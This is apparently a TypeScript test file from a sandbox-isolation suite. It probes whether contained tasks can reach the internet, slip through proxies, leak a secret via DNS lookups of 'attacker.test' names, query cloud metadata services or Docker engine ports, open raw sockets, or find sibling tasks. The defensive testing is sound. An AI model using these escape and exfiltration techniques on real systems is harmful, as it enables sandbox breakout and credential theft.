import { randomUUID } from "node:crypto";
import { once } from "node:events";
import { createServer, type AddressInfo } from "node:net";
import { networkInterfaces } from "node:os";
import { newAttempt } from "../../contract/sandboxes.ts";
import { TEST_LIMITS } from "../../fixtures/test-limits.ts";
import type { DockerBackEnd } from "../suite/docker-back-end.ts";
import type { HostileCase, Results } from "../suite/hostile-case.ts";
import type { HostileWorld } from "../suite/hostile-world.ts";
import { nodeProbe, perlProbe } from "../suite/tried.ts";

const BOTH = ["docker", "user"] as const;
/** What a kernel says where there is no way. A time-out is none: somebody may have swallowed it. */
const NO_WAY = /ENETUNREACH|EHOSTUNREACH|ECONNREFUSED|EADDRNOTAVAIL|ENOTFOUND|EAI_AGAIN|EPERM|EACCES/;

/** The world outside, for a control: addresses of the loopback, and somebody who answers on every port of `PORTS`. */
const OUTSIDE = [
  "1.1.1.1",
  "8.8.8.8",
  "169.254.169.254",
  "168.63.129.16",
  "100.100.100.200",
  "192.168.65.7",
  "172.17.0.1",
];
const OUTSIDE_6 = ["2606:4700:4700::1111", "fd00:ec2::254"];
const PORTS = [22, 25, 53, 80, 443, 853, 2375, 2376, 3128, 1080];

/** Gives the loopback those addresses, by the kernel's own calls: an image need not have a tool for it. */
const ALIASES = `
  use strict; use Socket qw(:DEFAULT inet_pton AF_INET6);
  my ($four, $six) = map { [split / /] } @ARGV;
  socket(my $s, AF_INET, SOCK_DGRAM, 0) or die $!;
  my $up = pack("a16 S", "lo", 1 | 64); ioctl($s, 0x8914, $up) or die "up $!";
  my $number = 0;
  for my $address (@$four) {
    my $request = pack("a16 a16", "lo:" . ++$number, pack_sockaddr_in(0, inet_aton($address)));
    ioctl($s, 0x8916, $request) or die "$address $!";
  }
  for my $name ("all", "lo") { open(my $f, ">", "/proc/sys/net/ipv6/conf/$name/disable_ipv6") or die $!; print $f "0"; close $f or die $!; }
  socket(my $t, AF_INET6, SOCK_DGRAM, 0) or die $!;
  for my $address (@$six) {
    my $request = pack("a16 L l", inet_pton(AF_INET6, $address), 128, 1);
    ioctl($t, 0x8916, $request) or die "$address $!";
  }
`;

/** Stands for the world outside, and lets `program` knock at it. Tells who was heard: whose word came, by any transport. */
const WORLD = `
  const { addresses, addresses6, ports, words, program } = JSON.parse(process.argv[1]);
  const { execFileSync, spawn } = require("node:child_process");
  execFileSync("perl", ["-e", ${JSON.stringify(ALIASES)}, addresses.join(" "), addresses6.join(" ")], { stdio: "inherit" });
  const hear = (bytes) => { for (const [word, name] of Object.entries(words)) if (String(bytes).toLowerCase().includes(word)) said(name, "REACHED", "heard"); };
  await Promise.all(ports.map((port) => new Promise((ready) => net.createServer((socket) => {
    socket.on("error", () => undefined).on("data", (data) => { hear(data); socket.end("HTTP/1.1 418 heard\\r\\ncontent-length: 0\\r\\nconnection: close\\r\\n\\r\\n"); });
  }).listen(port, "::", ready))));
  const udp = dgram.createSocket("udp6");
  udp.on("message", (data, from) => { hear(data); udp.send("heard", from.port, from.address); });
  await new Promise((ready) => udp.bind(53, "::", ready));
  const [file, ...args] = program;
  spawn(file, args, { stdio: "inherit" }).once("exit", () => process.exit());
`;

/** The probe with somebody at every address. */
async function withWorld(
  world: HostileWorld,
  program: readonly string[],
  words: Readonly<Record<string, string>> = {},
): Promise<Results> {
  const order = { addresses: OUTSIDE, addresses6: OUTSIDE_6, ports: PORTS, words, program };
  return await world.probeBare(nodeProbe(WORLD, JSON.stringify(order)), {
    isMighty: true,
    hostConfig: { Dns: ["8.8.8.8"] },
  });
}

type Targets = Readonly<Record<string, { readonly host: string; readonly port: number }>>;

const DIRECT: Targets = {
  "HTTPS by address": { host: "1.1.1.1", port: 443 },
  "HTTP by address": { host: "1.1.1.1", port: 80 },
  SSH: { host: "1.1.1.1", port: 22 },
  mail: { host: "1.1.1.1", port: 25 },
  "DNS over TCP": { host: "8.8.8.8", port: 53 },
  "DNS over TLS": { host: "8.8.8.8", port: 853 },
  "HTTPS by an IPv6 address": { host: "2606:4700:4700::1111", port: 443 },
  "an IPv4 address in IPv6": { host: "::ffff:1.1.1.1", port: 443 },
};

const METADATA: Targets = {
  "AWS, GCP, Azure": { host: "169.254.169.254", port: 80 },
  "AWS by IPv6": { host: "fd00:ec2::254", port: 80 },
  "Azure's wire server": { host: "168.63.129.16", port: 80 },
  Alibaba: { host: "100.100.100.200", port: 80 },
};

const ENGINES: Targets = {
  "Docker Desktop's engine (CVE-2025-9074)": { host: "192.168.65.7", port: 2375 },
  "an engine on docker0": { host: "172.17.0.1", port: 2375 },
  "an engine with TLS on docker0": { host: "172.17.0.1", port: 2376 },
};

const knockAll = (targets: Targets): readonly string[] =>
  nodeProbe(
    `await Promise.all(Object.entries(JSON.parse(process.argv[1])).map(([name, to]) => knock(name, to)));`,
    JSON.stringify(targets),
  );

function knocking(parts: {
  readonly id: string;
  readonly title: string;
  readonly targets: Targets;
}): HostileCase {
  const probe = knockAll(parts.targets);
  return {
    id: parts.id,
    title: parts.title,
    control: "with somebody at each address, each answers",
    on: BOTH,
    targets: Object.keys(parts.targets),
    refusal: NO_WAY,
    attack: async (world) => await world.probe(probe),
    asRoot: async (world) => await world.probeAsRoot(probe),
    unguarded: async (world) => await withWorld(world, probe),
  };
}

/** Sends a request by way of a proxy, or to another address than its name's, as far as git and Node can be talked into it. */
const PROXY_GAMES: Readonly<Record<string, string>> = {
  http_proxy: `git({ http_proxy: "http://1.1.1.1:3128" })`,
  "HTTPS_PROXY, NO_PROXY unset": `git({ HTTPS_PROXY: "http://1.1.1.1:3128" }, "https://allowed.test/x")`,
  "ALL_PROXY with names resolved there": `git({ ALL_PROXY: "socks5h://1.1.1.1:1080" })`,
  "NO_PROXY=*": `git({ http_proxy: "http://127.0.0.1:9", NO_PROXY: "*" }, "http://1.1.1.1/x")`,
  "http.proxy in the configuration": `git({}, "http://allowed.test/x", ["-c", "http.proxy=1.1.1.1:3128"])`,
  "another address for the name": `git({}, "http://allowed.test/x", ["-c", "http.curloptResolve=allowed.test:80:1.1.1.1"])`,
  "Node's proxy from the environment": `run(process.execPath, ["-e", "require('http').get('http://allowed.test/x', (r) => console.log(r.statusCode)).on('error', (e) => { console.log(e.code); process.exit(1); })"], { NODE_USE_ENV_PROXY: "1", HTTP_PROXY: "http://1.1.1.1:3128" })`,
};

const playProxyGames = nodeProbe(`
  const { execFile } = require("node:child_process");
  const run = (file, args, env) => new Promise((done) => execFile(file, args, { env: { PATH: process.env.PATH, HOME: "/tmp", GIT_TERMINAL_PROMPT: "0", ...env }, timeout: 8000 }, (error, out, err) => done(String(out) + err + (error?.killed ? "TIMEOUT" : ""))));
  const git = (env, url = "http://allowed.test/x", options = []) => run("git", [...options, "ls-remote", url], env);
  const games = { ${Object.entries(PROXY_GAMES)
    .map(([name, game]) => `${JSON.stringify(name)}: () => ${game}`)
    .join(", ")} };
  // Somebody who has heard anything is reached: a proxy that is asked for a tunnel answers 418, one of another kind hangs up.
  const heard = /418|Received HTTP|SOCKS|[Uu]nexpected|reset|Empty reply|wrong version|proxy response|closed connection/;
  await Promise.all(Object.entries(games).map(async ([name, play]) => { const printed = await play(); said(name, heard.test(printed) ? "REACHED" : "REFUSED", printed); }));
`);

const [LIBRARY_WORD, SYSTEM_WORD] = ["l1brary-s3cr3t", "syst3m-s3cr3t"];

/** Asks for a name that holds a secret, in every way in which one can be asked for. */
const askForNames = nodeProbe(`
  const dns = require("node:dns"), name = "s3cr3t.attacker.test";
  const query = Buffer.concat([Buffer.from([0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]), ...name.split(".").map((part) => Buffer.concat([Buffer.from([part.length]), Buffer.from(part)])), Buffer.from([0, 0, 1, 0, 1])]);
  const udp = (label, address) => new Promise((done) => {
    const socket = dgram.createSocket(address.includes(":") ? "udp6" : "udp4");
    const end = (how, detail) => { socket.close(); said(label, how, detail); done(); };
    const late = setTimeout(() => end("REFUSED", "TIMEOUT"), 2000);
    socket.once("error", (error) => { clearTimeout(late); end("REFUSED", error.code); });
    socket.once("message", () => { clearTimeout(late); end("REACHED", "answered"); });
    socket.connect(53, address, (error) => { if (error) { clearTimeout(late); end("REFUSED", error.code); } else socket.send(query); });
  });
  const resolver = (label, server) => new Promise((done) => {
    const asking = new dns.Resolver({ timeout: 1000, tries: 1 });
    asking.setServers([server]);
    asking.resolve4("${LIBRARY_WORD}.attacker.test", (error) => { said(label, "REFUSED", error?.code ?? "none"); done(); });
  });
  await udp("UDP to a public resolver", "8.8.8.8");
  await udp("UDP to one by IPv6", "2606:4700:4700::1111");
  await udp("UDP to the metadata service's", "169.254.169.254");
  await knock("DNS over HTTPS", { host: "1.1.1.1", port: 443 }, "GET /dns-query?name=" + name + " HTTP/1.1\\r\\n\\r\\n");
  await resolver("the resolver library", "8.8.8.8");
  await new Promise((done) => dns.lookup("${SYSTEM_WORD}.attacker.test", (error) => { said("the system's resolver", "REFUSED", error?.code ?? "none"); done(); }));
`);
const NAME_TARGETS = [
  "UDP to a public resolver",
  "UDP to one by IPv6",
  "UDP to the metadata service's",
  "DNS over HTTPS",
  "the resolver library",
  "the system's resolver",
];

const OWN_SOCKETS = {
  "raw ICMP": "AF_INET, SOCK_RAW, 1",
  "raw ICMP by IPv6": "10, SOCK_RAW, 58",
  "packets of the interface": "17, SOCK_RAW, 0x0300",
};
const DATAGRAMS = { QUIC: "1.1.1.1", "a broadcast": "255.255.255.255", "a group": "224.0.0.251" };

const openSockets = perlProbe(`
  ${Object.entries(OWN_SOCKETS)
    .map(([name, socket]) => `open_socket("${name}", ${socket});`)
    .join("\n")}
  ${Object.entries(DATAGRAMS)
    .map(([name, to]) => `datagram("${name}", "${to}");`)
    .join("\n")}
  sub datagram { my ($name, $to) = @_;
    socket(my $s, AF_INET, SOCK_DGRAM, 0); setsockopt($s, SOL_SOCKET, SO_BROADCAST, 1);
    send($s, "x", 0, sockaddr_in(443, inet_aton($to))) ? said($name, "REACHED", "sent") : said($name, "REFUSED", "$!");
  }
`);

/** Whoever listens on this machine, and how to knock there. */
interface HostService {
  readonly knock: readonly string[];
  readonly network: string;
  readonly gateway: string;
}

async function withHostService<T>(
  world: HostileWorld,
  use: (service: HostService) => Promise<T>,
): Promise<T> {
  const { docker } = (world.backEnd as DockerBackEnd).under;
  const network = `nightwarden-control-${randomUUID()}`;
  const created = await docker.createNetwork({ Name: network, Internal: true });
  const server = createServer((socket) => {
    socket.on("error", () => socket.destroy()).end("hello from the host");
  });
  try {
    const { IPAM } = (await created.inspect()) as { IPAM: { Config: { Gateway: string }[] } };
    const gateway = IPAM.Config[0]?.Gateway ?? "";
    server.listen(0, "::");
    await once(server, "listening");
    const { port } = server.address() as AddressInfo;
    const docker0 = networkInterfaces()["docker0"]?.[0]?.address ?? "172.17.0.1";
    const targets: Targets = {
      "a bridge's gateway": { host: gateway, port },
      docker0: { host: docker0, port },
      "the host's loopback": { host: "127.0.0.1", port },
      "host.docker.internal": { host: "host.docker.internal", port },
      "gateway.docker.internal": { host: "gateway.docker.internal", port },
    };
    return await use({ knock: knockAll(targets), network, gateway });
  } finally {
    server.close();
    await created.remove();
  }
}

const SIBLING_PORT = 29_117;
const SIBLING_TARGETS = ["a port", "an abstract socket", "shared memory", "a file in /dev/shm", "a process"];

/** A sibling's task with everything that could be found of it. It says when it is there. */
const SIBLING = `
  use strict; use Socket; $0 = "sibling-of-the-case"; $| = 1;
  socket(my $tcp, AF_INET, SOCK_STREAM, 0); setsockopt($tcp, SOL_SOCKET, SO_REUSEADDR, 1);
  bind($tcp, sockaddr_in(${SIBLING_PORT}, INADDR_ANY)) && listen($tcp, 5) or die "tcp $!";
  socket(my $unix, AF_UNIX, SOCK_STREAM, 0);
  bind($unix, pack("S a*", AF_UNIX, "\\0nightwarden-sibling")) && listen($unix, 5) or die "unix $!";
  defined shmget(0x4e570001, 4096, 0666 | 01000) or die "shm $!";
  open(my $file, ">", "/dev/shm/sibling") or die "file $!";
  chmod 0666, "/dev/shm/sibling";
  print "there\\n";
  for (my $until = time + 40; time < $until; ) {
    my $ready = ""; vec($ready, fileno($tcp), 1) = 1; vec($ready, fileno($unix), 1) = 1;
    next unless select($ready, undef, undef, 1) > 0;
    for my $s ($tcp, $unix) { if (vec($ready, fileno($s), 1)) { accept(my $c, $s); sysread($c, my $word, 64); syswrite($c, "the sibling"); close $c; } }
  }
`;

const findSibling = nodeProbe(`
  const { execFileSync } = require("node:child_process");
  await knock("a port", { host: "127.0.0.1", port: ${SIBLING_PORT} });
  await knock("an abstract socket", { path: "\\0nightwarden-sibling" });
  attempt("shared memory", () => execFileSync("perl", ["-e", 'defined shmget(0x4e570001, 4096, 0) or die "$!"'], { encoding: "utf8" }) + "there");
  attempt("a file in /dev/shm", () => fs.readFileSync("/dev/shm/sibling") + "there");
  const commands = fs.readdirSync("/proc").filter((name) => /^\\d+$/.test(name)).map((pid) => { try { return fs.readFileSync("/proc/" + pid + "/cmdline", "utf8"); } catch { return ""; } });
  const found = commands.filter((command) => command.startsWith("sibling-of-the-case"));
  said("a process", found.length > 0 ? "REACHED" : "REFUSED", found.length > 0 ? found[0].slice(0, 40) : "none");
`);

const besideSibling = `exec 3< <(exec perl -e '${SIBLING.replaceAll("'", `'\\''`)}'); sibling=$!; read -r <&3; "$@"; kill $sibling`;

async function withSibling<T>(world: HostileWorld, use: () => Promise<T>): Promise<T> {
  const { under } = world.backEnd;
  const { commit } = await world.repository.prepare("main");
  const attempt = newAttempt();
  const trees = await under.trees.open({ attempt, slot: SIBLING_SLOT });
  try {
    await trees.fill("agent", world.repository.treeSource(commit));
    const { image } = under;
    const place = { attempt, image, trees, limits: TEST_LIMITS, slot: SIBLING_SLOT };
    const sandbox = await under.sandboxes.start({ ...place, role: "agent", tree: "agent" });
    const stop = new AbortController();
    try {
      let isThere: () => void = () => undefined;
      const there = new Promise<void>((resolve) => (isThere = resolve));
      const running = sandbox.run(
        {
          commands: [["perl", "-e", SIBLING]],
          env: {},
          stdin: "",
          wallClockMs: 60_000,
          outputBytes: 2 ** 20,
          onLine: ({ text }) => (text === "there" ? isThere() : undefined),
        },
        stop.signal,
      );
      const early = running.then(() => {
        throw new Error("the sibling did not come up");
      });
      await Promise.race([there, early]);
      const used = await Promise.race([use(), early]);
      stop.abort();
      early.catch(() => undefined);
      await running;
      return used;
    } finally {
      await sandbox.destroy();
    }
  } finally {
    await trees.close();
  }
}
const SIBLING_SLOT = 6;

export const NETWORK: readonly HostileCase[] = [
  knocking({ id: "NET01", title: "connects straight to the internet", targets: DIRECT }),
  {
    id: "NET02",
    title: "games with proxies: every variable, git's configuration, another address for a name",
    control: "a proxy that is there hears of each",
    on: BOTH,
    targets: Object.keys(PROXY_GAMES),
    refusal:
      /unreachable|Couldn't connect|Failed to connect|Could not resolve|ENETUNREACH|ECONNREFUSED|EAI_AGAIN/,
    attack: async (world) => await world.probe(playProxyGames),
    unguarded: async (world) => await withWorld(world, playProxyGames),
  },
  {
    id: "NET03",
    title: "a secret in the name that is asked for: by UDP, TCP, HTTPS, libraries",
    control: "a resolver that is there hears each question",
    on: BOTH,
    targets: NAME_TARGETS,
    refusal: NO_WAY,
    attack: async (world) => await world.probe(askForNames),
    asRoot: async (world) => await world.probeAsRoot(askForNames),
    unguarded: async (world) =>
      await withWorld(world, askForNames, {
        [LIBRARY_WORD]: "the resolver library",
        [SYSTEM_WORD]: "the system's resolver",
      }),
  },
  knocking({ id: "NET06", title: "asks a cloud's metadata service", targets: METADATA }),
  {
    id: "NET05",
    title: "reaches this machine: its addresses, the engine's bridges, the names of the host",
    control: "a container on an --internal network, and one on the host's, are answered",
    on: ["docker"],
    targets: [
      "a bridge's gateway",
      "docker0",
      "the host's loopback",
      "host.docker.internal",
      "gateway.docker.internal",
    ],
    refusal: NO_WAY,
    attack: async (world) => await withHostService(world, async ({ knock }) => await world.probe(knock)),
    asRoot: async (world) =>
      await withHostService(world, async ({ knock }) => await world.probeAsRoot(knock)),
    unguarded: async (world) =>
      await withHostService(world, async ({ knock, network, gateway }) => {
        const names = ["host.docker.internal", "gateway.docker.internal"].map((name) => `${name}:${gateway}`);
        const inside = await world.probeBare(knock, { network, hostConfig: { ExtraHosts: names } });
        const onHost = await world.probeBare(knock, { network: "host" });
        return new Map(
          [...inside].map(([name, result]) => [
            name,
            result.how === "reached" ? result : (onHost.get(name) ?? result),
          ]),
        );
      }),
  },
  {
    id: "NET08",
    title: "opens raw sockets and packet sockets, and sends datagrams and broadcasts",
    control: "root with a network of its own opens and sends each",
    on: BOTH,
    targets: [...Object.keys(OWN_SOCKETS), ...Object.keys(DATAGRAMS)],
    refusal: /Operation not permitted|Network is unreachable|Address family not supported/,
    attack: async (world) => await world.probe(openSockets),
    asRoot: async (world) => await world.probeAsRoot(openSockets),
    unguarded: async (world) => await world.probeBare(openSockets, { network: "bridge", isMighty: true }),
  },
  {
    id: "NET09",
    title: "finds a sibling's task: its ports, its abstract socket, its shared memory, its processes",
    control: "a program beside it finds each",
    on: BOTH,
    targets: SIBLING_TARGETS,
    refusal: /ECONNREFUSED|ENOENT|No such file|none/,
    attack: async (world) => await withSibling(world, async () => await world.probe(findSibling)),
    asRoot: async (world) => await withSibling(world, async () => await world.probeAsRoot(findSibling)),
    unguarded: async (world) => await world.probeBare(["bash", "-c", besideSibling, "bash", ...findSibling]),
  },
  knocking({ id: "FS12b", title: "looks for an engine that listens on TCP", targets: ENGINES }),
];
